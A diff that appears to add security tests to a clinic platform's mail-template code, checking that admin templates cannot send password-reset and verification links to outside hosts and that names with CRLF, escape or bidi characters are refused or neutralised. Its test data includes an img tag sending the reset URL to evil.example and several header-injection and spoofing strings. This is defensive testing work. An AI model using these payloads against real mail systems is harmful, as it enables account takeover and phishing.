@@ -237,6 +237,142 @@ static void tenants_are_apart(void)
     CHECK_ERROR(refused, 403, "Forbidden");
 }
 
+/* Attack 2: the template of an admin must not tell a stranger's server the link that opens an account. */
+static void secret_links_stand_as_text_or_href_only(void)
+{
+    static const struct {
+        const char *name, *json, *path; /* path NULL: accepted */
+    } rows[] = {
+        {"PASSWORD_RESET",
+         "{\"subject\":\"s\",\"text\":\"{{resetUrl}}\",\"html\":\"<img "
+         "src=\\\"{{resetUrl}}\\\">\"}",
+         "html"},
+        {"PASSWORD_RESET", "{\"subject\":\"{{resetUrl}}\",\"text\":\"x\"}", "subject"},
+        {"EMAIL_VERIFICATION",
+         "{\"subject\":\"s\",\"text\":\"x\",\"html\":\"<a "
+         "href='https://e.example/?{{verifyUrl}}'>x</a>\"}",
+         "html"},
+        {"CLINICIAN_SIGNUP_INVITE",
+         "{\"subject\":\"s\",\"text\":\"x\",\"html\":\"<style>{{continueAsPatientUrl}}</style>\"}",
+         "html"},
+        {"EMAIL_CHANGED", "{\"subject\":\"s\",\"text\":\"x\",\"html\":\"<!-- {{undoUrl}} -->\"}",
+         "html"},
+        {"INVITE_TO_PROJECT",
+         "{\"subject\":\"s\",\"text\":\"x\",\"html\":\"<p><a "
+         "href='{{invitationUrl}}'>{{invitationUrl}}</a></p>\"}",
+         NULL},
+    };
+    PERSON there = person_admin_of_child(suite, "secret-links");
+
+    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
+        HTTP_ANSWER answer = put(there->access, rows[i].name, rows[i].json);
+
+        if (rows[i].path)
+            CHECK_PROBLEM(answer, rows[i].path);
+        else
+            CHECK_STATUS(answer, 200);
+    }
+}
+
+/* A template that was put before that rule goes out as text alone. */
+static void older_templates_send_their_text_only(void)
+{
+    PERSON patient = person_register(suite, NULL);
+    PERSON admin = person_admin(suite);
+    HTTP_ANSWER mapped =
+        put(admin->access, "PASSWORD_RESET",
+            "{\"subject\":\"Reset\",\"text\":\"Link: {{resetUrl}}\",\"html\":\"<p>x</p>\"}");
+
+    CHECK_STATUS(mapped, 200);
+    free(suite_query(suite,
+                     "with w as (update mail.template set html = '<img "
+                     "src=\"https://evil.example/?{{resetUrl}}\">',"
+                     "subject = 'Reset {{resetUrl}}' where name = 'PASSWORD_RESET' returning name) "
+                     "select count(*) from w"));
+    CU_ASSERT_TRUE(suite_mails_arrive(suite, patient->email, 1)); /* its welcome */
+    HTTP_ANSWER asked =
+        suite_post_fresh(suite, "/auth/reset-password",
+                         json_pack("{s:s, s:s}", "email", patient->email, "tenantCode", "demo"));
+    CHECK_STATUS(asked, 200);
+    CU_ASSERT_TRUE(suite_mails_arrive(suite, patient->email, 2));
+
+    char *mail = suite_mail(suite, patient->email, MAIL_MS);
+    CU_ASSERT_TRUE(mail && strstr(mail, "Link: http") && !strstr(mail, "evil.example"));
+    CU_ASSERT_TRUE(mail && strstr(mail, "Subject: Reset \r\n"));
+    free(mail);
+    HTTP_ANSWER again = put(admin->access, "PASSWORD_RESET",
+                            "{\"subject\":\"Reset\",\"text\":\"Link: {{resetUrl}}\"}");
+    CHECK_STATUS(again, 200);
+}
+
+/* Attack 9: a name is no paragraph of a clinic's mail, no link and no escape sequence. */
+static void harmful_names_are_refused_everywhere(void)
+{
+    static const char *const bad[] = {
+        "Ana\r\n\r\nYour account is closed", "A\x1b[2J", "A\u202eB", "\u2066A", "\u200b", " "};
+    PERSON admin = person_admin(suite);
+
+    for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
+        char *email = person_address();
+        json_t *body = body_register(email, "demo"), *policy = json_object();
+
+        json_object_set_new(body, "name", json_string(bad[i]));
+        json_object_set_new(body, "surname", json_string(bad[i]));
+        HTTP_ANSWER registered = suite_post_fresh(suite, "/auth/tenant/Patient/register", body);
+        CHECK_PROBLEM(registered, "name");
+        CHECK_PROBLEM(registered, "surname");
+        HTTP_ANSWER member = http_post(suite_url(suite), "/v1/projects/me/members", admin->access,
+                                       json_pack("{s:s, s:s, s:s}", "email", email, "firstName",
+                                                 bad[i], "lastName", bad[i]));
+        CHECK_PROBLEM(member, "firstName");
+        CHECK_PROBLEM(member, "lastName");
+        HTTP_ANSWER child = http_post(suite_url(suite), "/v1/slim/project/child", admin->access,
+                                      json_pack("{s:s}", "name", bad[i]));
+        CHECK_PROBLEM(child, "name");
+        json_object_set_new(policy, "name", json_string(bad[i]));
+        HTTP_ANSWER access =
+            http_post(suite_url(suite), "/v1/project/access-policies", admin->access, policy);
+        CHECK_PROBLEM(access, "name");
+        HTTP_ANSWER client = http_post(suite_url(suite), "/v1/project/clients", admin->access,
+                                       json_pack("{s:s}", "name", bad[i]));
+        CHECK_PROBLEM(client, "name");
+        free(email);
+    }
+}
+
+/* What was stored before that rule is made harmless when a mail is made, and no name becomes a link. */
+static void names_in_mails_are_harmless(void)
+{
+    char *email = person_address();
+    json_t *body = body_register(email, "demo");
+
+    free(suite_query(
+        suite, "with p as (update settings.project set name = E'Demo\\r\\n\\r\\nPay here\\u202e' "
+               "where parent_id is null returning id) select count(*) from p"));
+    json_object_set_new(body, "name", json_string("Visit"));
+    json_object_set_new(body, "surname", json_string("evil.example"));
+    HTTP_ANSWER registered = suite_post_fresh(suite, "/auth/tenant/Patient/register", body);
+    CHECK_STATUS(registered, 200);
+    free(suite_mail(suite, email, MAIL_MS));
+
+    char *mail = suite_mail(suite, email, MAIL_MS);
+    struct program *read;
+    static const char *const reader[] = {"/usr/bin/python3", "tests/http/mail_json.py", NULL};
+
+    read = program_run(reader, mail ? mail : "");
+    CHECK_EXIT(read, 0);
+    CU_ASSERT_TRUE(mail && !strstr(mail, "\r\nPay here"));
+    CU_ASSERT_PTR_NULL(strstr(read->out, "evil.example"));
+    UNIT_CHECK(strstr(read->out, "evil.\u2060example") || strstr(read->out, "evil.\\u2060example"),
+               "%s", read->out);
+    program_destroy(&read);
+    free(suite_query(suite,
+                     "with p as (update settings.project set name = 'Demo' where parent_id is null "
+                     "returning id) select count(*) from p"));
+    free(mail);
+    free(email);
+}
+
 static void it_ends_without_a_trace(void)
 {
     suite_stop(&suite);
@@ -250,6 +386,10 @@ static const struct unit_case cases[] = {
     {"the longest preview fits", the_longest_preview_fits},
     {"mail falls back to the default language", mail_falls_back_to_the_default_language},
     {"tenants are apart", tenants_are_apart},
+    {"secret links stand as text or href only", secret_links_stand_as_text_or_href_only},
+    {"older templates send their text only", older_templates_send_their_text_only},
+    {"harmful names are refused everywhere", harmful_names_are_refused_everywhere},
+    {"names in mails are harmless", names_in_mails_are_harmless},
     {"it ends without a trace", it_ends_without_a_trace},
 };
 
